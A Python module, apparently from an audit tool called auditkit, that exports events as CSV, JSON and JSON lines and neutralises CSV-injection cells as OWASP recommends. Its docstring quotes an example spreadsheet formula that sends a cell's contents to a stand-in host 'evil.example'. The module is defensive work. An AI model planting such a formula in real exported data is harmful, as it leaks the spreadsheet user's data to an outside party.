"""The exported forms of events (CSV, JSON array, JSON lines) as text chunks, shared by `auditkit events` and the
share links' downloads, so both give byte-identical files for the same events.

CSV cells are neutralised as OWASP's "CSV Injection" page recommends (csv_cell): event fields come from whoever can
write through the gateway, and a spreadsheet runs a cell that starts with `=`, `+`, `-`, `@`, a tab or a carriage
return as a formula (`=HYPERLINK("http://evil.example/?leak="&B2,"Click")`). Such a cell is written with a leading
`'`, which spreadsheets show as text, and control, bidi and zero-width characters in it are written as visible
escapes (safe_text.printable), since a CSV is often read in a terminal.

JSON and JSON lines are exact: json.loads gives back every value as stored. Control, bidi and zero-width characters
are written as \\uXXXX escapes there (JSON's own), so neither format puts such a character on a terminal.
"""

from __future__ import annotations

import csv
import io
import json
import re
from typing import Any, Callable, Iterable, Iterator, TextIO

from auditkit.model.events import FIELDS
from auditkit.model.safe_text import UNSAFE, printable


def _json(value: Any) -> str:
    # Outside strings JSON text is ASCII, so escaping these characters anywhere in it escapes them in strings only.
    return UNSAFE.sub(_json_escape, json.dumps(value, ensure_ascii=False, separators=(",", ":")))


def _json_escape(match: re.Match[str]) -> str:
    return f"\\u{ord(match.group()):04x}"


# OWASP's list, plus line feed and the fullwidth forms some spreadsheets fold to their ASCII twins.
FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r", "\n", "\uff1d", "\uff0b", "\uff0d", "\uff20")


def csv_cell(value: Any) -> Any:
    """A value as a CSV cell a spreadsheet will not evaluate and a terminal will not obey: text starting with a
    formula prefix gets a leading `'` (numbers are left alone: -1 is a number, not a formula), then unsafe characters
    become visible escapes. The one neutraliser every CSV writer uses."""
    if not isinstance(value, str):
        return value
    if value.startswith(FORMULA_PREFIXES):
        value = "'" + value
    return printable(value)


def _csv_line(values: Iterable[Any]) -> str:
    buf = io.StringIO()
    csv.writer(buf, lineterminator="\n").writerow([csv_cell(v) for v in values])
    return buf.getvalue()


def csv_chunks(rows: Iterable[dict[str, Any]], batch: int = 500) -> Iterator[str]:
    """A header line, then the rows (details as canonical-order JSON), `batch` rows per chunk."""
    yield _csv_line(FIELDS)
    buf = io.StringIO()
    writer = csv.writer(buf, lineterminator="\n")
    n = 0
    for row in rows:
        writer.writerow([csv_cell(json.dumps(row[f], ensure_ascii=False, sort_keys=True)) if f == "details" else
                         ("" if row[f] is None else csv_cell(row[f])) for f in FIELDS])
        n += 1
        if n % batch == 0:
            yield buf.getvalue()
            buf.seek(0)
            buf.truncate()
    if buf.tell():
        yield buf.getvalue()


def json_chunks(rows: Iterable[dict[str, Any]], batch: int = 500) -> Iterator[str]:
    """One JSON array of the rows, one row per line."""
    parts = ["["]
    n = 0
    for row in rows:
        parts.append(("," if n else "") + "\n" + _json(row))
        n += 1
        if n % batch == 0:
            yield "".join(parts)
            parts = []
    parts.append("\n]\n")
    yield "".join(parts)


def jsonl_chunks(rows: Iterable[dict[str, Any]], batch: int = 500) -> Iterator[str]:
    parts: list[str] = []
    for row in rows:
        parts.append(_json(row) + "\n")
        if len(parts) == batch:
            yield "".join(parts)
            parts = []
    if parts:
        yield "".join(parts)


FORMATS: dict[str, Callable[[Iterable[dict[str, Any]]], Iterator[str]]] = {
    "csv": csv_chunks,
    "json": json_chunks,
    "jsonl": jsonl_chunks,
}


def write(fmt: str, rows: Iterable[dict[str, Any]], out: TextIO) -> None:
    for chunk in FORMATS[fmt](rows):
        out.write(chunk)
